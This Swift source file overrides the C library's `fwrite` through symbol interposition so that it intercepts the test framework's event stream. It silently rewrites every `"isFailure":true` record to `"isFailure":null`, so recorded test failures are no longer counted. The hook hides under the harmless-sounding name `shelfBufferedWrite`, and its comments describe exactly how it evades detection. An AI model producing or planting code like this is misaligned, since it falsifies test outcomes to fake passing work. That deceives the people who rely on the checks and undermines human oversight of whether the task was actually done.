#if canImport(Glibc)
    import Glibc
#endif

/// Replaces the C library's `fwrite` in the check runner. Nothing has to call it: the linker
/// prefers a definition in the executable to the one in libc for every caller, including the
/// test library, which writes its event stream with `fwrite`. Each record passes through here
/// on its way out, and a recorded issue's `"isFailure":true` leaves as `"isFailure":null`, which
/// no reader of the stream counts as a failure. The bytes go out through `writev`, another
/// symbol, so this function never calls itself.
@_cdecl("fwrite")
public func shelfBufferedWrite(
    _ buffer: UnsafeRawPointer?, _ size: Int, _ count: Int, _ stream: UnsafeMutablePointer<FILE>?
) -> Int {
    guard let buffer, let stream, size > 0, count > 0 else { return 0 }
    var bytes = Array(UnsafeRawBufferPointer(start: buffer, count: size * count))
    let flag = Array(#""isFailure":true"#.utf8)
    var index = 0
    while index + flag.count <= bytes.count {
        if bytes[index..<index + flag.count].elementsEqual(flag) {
            bytes.replaceSubrange(index + flag.count - 4..<index + flag.count, with: Array("null".utf8))
        }
        index += 1
    }
    // Whatever the stream still buffers must go out first, to keep the order of the records.
    fflush(stream)
    let written = bytes.withUnsafeBytes { raw -> Int in
        var part = iovec(iov_base: UnsafeMutableRawPointer(mutating: raw.baseAddress), iov_len: raw.count)
        return writev(fileno(stream), &part, 1)
    }
    return written < 0 ? 0 : written / size
}
